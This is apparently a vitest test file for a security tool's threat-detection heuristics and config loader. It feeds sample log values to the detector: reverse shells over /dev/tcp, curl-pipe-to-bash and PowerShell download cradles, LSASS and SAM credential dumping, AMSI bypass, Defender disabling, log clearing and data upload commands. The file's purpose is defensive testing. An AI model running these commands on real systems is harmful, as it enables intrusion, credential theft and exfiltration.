import { describing } from '@svc/application/intel/describe-entities.ts';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openHeuristics, shippedDeriveFiles, type Heuristics } from '../testing/heuristics.ts';
import { readDeriveConfig } from './derive-config.ts';

let folder: string;
let heuristics: Heuristics;
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'svc-derive-'));
  heuristics = await openHeuristics();
});
afterAll(() => rm(folder, { recursive: true, force: true }));

describe('the shipped heuristics', () => {
  const base64 = 'SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMA';
  it.each([
    ['Image', 'C:\\Windows\\System32\\certutil.exe', 'lolbin_usage CERTUTIL.EXE high'],
    ['CommandLine', `powershell -nop -enc ${base64}`, 'cmdline_obfuscation BASE64_ENCODED_COMMAND high'],
    ['CommandLine', `powershell.exe -e ${base64}`, 'cmdline_obfuscation BASE64_ENCODED_COMMAND high'],
    ['ScriptBlockText', '[Convert]::FromBase64String($x)', 'cmdline_obfuscation BASE64_FROMBASE64 high'],
    ['CommandLine', 'cmd /c ^p^o^w^e^r^s^h^e^l^l', 'cmdline_obfuscation CARET_INSERTION high'],
    ['CommandLine', '^c^m^d^.^e^x^e /k', 'cmdline_obfuscation CARET_INSERTION high'],
    ['ScriptBlockText', '0xdeadbeef,0xcafebabe,0x01234567', 'cmdline_obfuscation HEX_STRINGS low'],
    ['ScriptBlockText', 'i`n`v`oke', 'cmdline_obfuscation TICK_OBFUSCATION high'],
    ['ScriptBlockText', '[char]73+[char]69+[char]88', 'cmdline_obfuscation CHAR_ARRAY_OBFUSCATION high'],
    ['ScriptBlockText', "'In'+'vo'+'ke'+'-Ex'+'pr'", 'cmdline_obfuscation CONCAT_OBFUSCATION low'],
    ['TargetFilename', 'C:\\Windows\\System32\\config\\SAM', 'credential_access SAM_HIVE critical'],
    ['CommandLine', 'reg save HKLM\\SYSTEM s.hiv', 'credential_access REG_SAVE_HIVE critical'],
    ['CommandLine', 'copy \\\\?\\shadow\\ntds.dit .', 'credential_access NTDS_DIT critical'],
    ['CommandLine', 'procdump -ma lsass.exe l.dmp', 'credential_access LSASS_ACCESS critical'],
    ['CommandLine', 'rundll32 comsvcs.dll, MiniDump 640 x full', 'credential_access LSASS_ACCESS critical'],
    [
      'TargetFilename',
      'C:\\Users\\a\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Login Data',
      'credential_access BROWSER_CREDENTIALS high',
    ],
    ['Image', 'C:\\t\\mimikatz.exe', 'credential_access CREDENTIAL_TOOLS critical'],
    ['CommandLine', 'cat /home/a/.ssh/id_rsa', 'credential_access SSH_KEY_ACCESS high'],
    ['DestinationPort', '4444', 'suspicious_network C2_PORT medium'],
    ['QueryName', 'qx7f9zk2mw4tbvc8ny1lhd6.example', 'suspicious_network DGA_DOMAIN medium'],
    ['QueryName', 'update.evil.top', 'suspicious_network SUSPICIOUS_TLD medium'],
    ['Image', 'C:\\Windows\\Temp\\svchost.exe', 'execution_anomalies MASQUERADE critical'],
    ['Image', 'C:\\Users\\Public\\x.exe', 'execution_anomalies STAGING_DIRECTORY medium'],
    ['TargetFilename', 'C:\\x\\invoice.pdf.exe', 'execution_anomalies DOUBLE_EXTENSION high'],
    ['TargetFilename', 'C:\\x\\backup.log.scr', 'execution_anomalies DOUBLE_EXTENSION high'],
    ['CommandLine', '"C:\\x\\notes.txt.js"', 'execution_anomalies DOUBLE_EXTENSION high'],
    ['TargetObject', 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x', 'persistence REGISTRY_RUN_KEY high'],
    ['CommandLine', 'copy x "C:\\y\\Start Menu\\Programs\\Startup\\z"', 'persistence STARTUP_FOLDER high'],
    ['CommandLine', 'wmic path __EventFilter create', 'persistence WMI_PERSISTENCE high'],
    ['CommandLine', 'sc.exe \\\\srv create evil binPath= x', 'persistence SERVICE_CREATION high'],
    ['CommandLine', 'schtasks /create /tn x /tr y', 'persistence SCHEDULED_TASK_CREATION high'],
    ['ScriptBlockText', "[Ref].Assembly.GetType('x.AmsiUtils')", 'defense_evasion AMSI_BYPASS critical'],
    ['ScriptBlockText', "GetProcAddress('EtwEventWrite')", 'defense_evasion ETW_PATCHING high'],
    ['CommandLine', 'wevtutil cl Security', 'defense_evasion LOG_CLEARING critical'],
    ['proctitle', 'rm -rf /var/log/auth.log', 'defense_evasion LOG_CLEARING critical'],
    ['CommandLine', 'Set-MpPreference -DisableRealtimeMonitoring $true', 'defense_evasion DISABLE_DEFENDER critical'],
    ['CommandLine', 'Add-MpPreference -ExclusionPath C:\\x', 'defense_evasion DISABLE_DEFENDER critical'],
    ['ScriptBlockText', '(gi x).LastWriteTime = "1/1/2020"', 'defense_evasion TIMESTOMPING high'],
    ['CommandLine', "IEX (New-Object Net.WebClient).DownloadString('http://x')", 'data_staging DOWNLOAD_CRADLE high'],
    ['CommandLine', 'bitsadmin /transfer j http://x/y c:\\y', 'data_staging BITSADMIN_DOWNLOAD high'],
    ['CommandLine', 'certutil -urlcache -f http://x/y y', 'data_staging CERTUTIL_DOWNLOAD high'],
    ['CommandLine', '7z a loot.7z C:\\data', 'data_staging ARCHIVE_CREATION low'],
    ['CommandLine', 'curl -X POST -d @loot http://x', 'data_staging UPLOAD_INDICATOR high'],
    ['CommandLine', 'robocopy C:\\x \\\\srv\\share', 'data_staging NETWORK_COPY medium'],
    ['Image', 'C:\\x\\svch0st.exe', 'typosquatting TYPOSQUAT_SVCHOST high'],
    ['exe', '/usr/bin/nc', 'unix_lolbin_usage NC high'],
    ['proctitle', 'curl -s http://x/y | bash', 'linux_download_exec DOWNLOAD_PIPE_SHELL critical'],
    ['proctitle', 'bash -i >& /dev/tcp/10.0.0.1/9001 0>&1', 'linux_download_exec DEV_TCP_REDIRECT critical'],
    ['proctitle', 'echo aaaa | base64 -d | sh', 'linux_download_exec BASE64_DECODE_PIPE high'],
    ['proctitle', 'chmod +x /tmp/x', 'linux_download_exec CHMOD_THEN_EXEC medium'],
    ['proctitle', 'chmod 755 /tmp/x', 'linux_download_exec CHMOD_THEN_EXEC medium'],
    ['proctitle', "python3 -c 'import pty;pty.spawn(1)'", 'linux_download_exec PYTHON_INLINE_SHELL critical'],
    ['proctitle', 'crontab -e', 'linux_persistence CRON_MODIFICATION high'],
    ['name', '/etc/systemd/system/evil.service', 'linux_persistence SYSTEMD_UNIT high'],
    ['proctitle', 'tee -a /root/.ssh/authorized_keys', 'linux_persistence AUTHORIZED_KEYS high'],
    ['proctitle', 'LD_PRELOAD=/tmp/x.so ls', 'linux_persistence LD_PRELOAD high'],
    ['name', '/home/a/.bashrc', 'linux_persistence SHELL_PROFILE medium'],
    ['name', '/etc/rc.local', 'linux_persistence RC_LOCAL medium'],
    ['name', '/etc/udev/rules.d/99.rules', 'linux_persistence UDEV_RULE medium'],
    ['proctitle', 'chmod u+s /bin/bash', 'linux_priv_esc SETUID_CHMOD high'],
    ['proctitle', 'chmod 4755 /bin/bash', 'linux_priv_esc SETUID_CHMOD high'],
    ['proctitle', 'find / -perm -4000 -type f', 'linux_priv_esc SUID_SEARCH high'],
    ['proctitle', 'visudo', 'linux_priv_esc SUDOERS_EDIT high'],
    ['proctitle', 'usermod -aG sudo eve', 'linux_priv_esc ADMIN_GROUP_ADD high'],
    ['proctitle', 'pkexec /bin/sh', 'linux_priv_esc PKEXEC_INVOCATION medium'],
    ['proctitle', 'sudo su -', 'linux_priv_esc SUDO_SHELL medium'],
    ['proctitle', 'echo x >> /etc/passwd', 'linux_priv_esc PASSWD_SHADOW_WRITE critical'],
  ])('%s=%s: %s', (field, value, expected) => {
    expect(heuristics.found(field, value)).toContain(expected);
  });

  it.each([
    ['CommandLine', 'powershell -ExecutionPolicy Bypass -File x.ps1'],
    ['CommandLine', 'net user'],
    ['CommandLine', 'findstr /r "^[^a-z]*^.^" 2^3 x.txt'],
    ['CommandLine', 'reg query HKLM\\SYSTEM\\CurrentControlSet'],
    ['CommandLine', 'schtasks /query'],
    ['CommandLine', 'sc query'],
    ['CommandLine', 'wevtutil qe Security'],
    ['CommandLine', 'certutil -hashfile x SHA256'],
    ['CommandLine', 'Get-MpPreference'],
    ['Image', 'C:\\Windows\\System32\\svchost.exe'],
    ['Image', 'C:\\Windows\\explorer.exe'],
    ['QueryName', 'www.example.com'],
    ['QueryName', 'topology.example.net'],
    ['DestinationPort', '443'],
    ['TargetFilename', 'C:\\x\\report.v2.docx'],
    ['TargetFilename', 'C:\\x\\System.Data.dll'],
    ['TargetFilename', 'C:\\x\\jquery.min.js'],
    ['CommandLine', 'ping mail.corp.com'],
    ['proctitle', 'chmod 644 file'],
    ['proctitle', 'cat /etc/passwd'],
    ['proctitle', 'sudo systemctl status ssh'],
    ['exe', '/usr/bin/bash'],
  ])('find nothing in %s=%s', (field, value) => {
    expect(heuristics.found(field, value)).toEqual([]);
  });
});

describe('reading the files', () => {
  async function withThreats(text: string): Promise<unknown> {
    const path = join(folder, 'threats.yaml');
    await writeFile(path, text);
    return readDeriveConfig({ ...shippedDeriveFiles, threatDetection: path });
  }

  it('goes without heuristics where there is no file of them', async () => {
    const config = await readDeriveConfig({ ...shippedDeriveFiles, threatDetection: join(folder, 'none.yaml') });
    expect(config.threats).toEqual([]);
  });

  it('takes the rule of made-up domains from it', async () => {
    const text = await readFile(shippedDeriveFiles.threatDetection, 'utf8');
    const looks = async (rule: string): Promise<unknown> => {
      await withThreats(text.replace('dga_rule: shape', `dga_rule: ${rule}`));
      const files = { ...shippedDeriveFiles, threatDetection: join(folder, 'threats.yaml') };
      const saying = await describing({ current: () => readDeriveConfig(files) });
      const names = ['qzxkvbnmrt.example', 'abcdefghijklmnop.example'];
      return names.map((value) => saying.describe({ type: 'domain', value }).keys);
    };
    expect(await looks('shape')).toEqual([['dga'], ['dga']]);
    expect(await looks('entropy')).toEqual([[], ['dga']]);
    await expect(looks('letters')).rejects.toThrow(/threats\.yaml: dga_rule/);
  });

  it('names the file and what is wrong in it', async () => {
    await expect(withThreats('categories: {a: {label: A, checks: [{type: guess, fields: [F]}]}}')).rejects.toThrow(
      /threats\.yaml: categories\.a\.checks\.0\.type/,
    );
    const pattern =
      'categories: {a: {label: A, checks: [{type: regex, fields: [F], patterns: [{name: N, pattern: "("}]}]}}';
    await expect(withThreats(pattern)).rejects.toThrow(/threats\.yaml: a: the pattern N cannot be read/);
    await expect(
      readDeriveConfig({ ...shippedDeriveFiles, analyticsFields: join(folder, 'none.yaml') }),
    ).rejects.toThrow('ENOENT');
  });
});
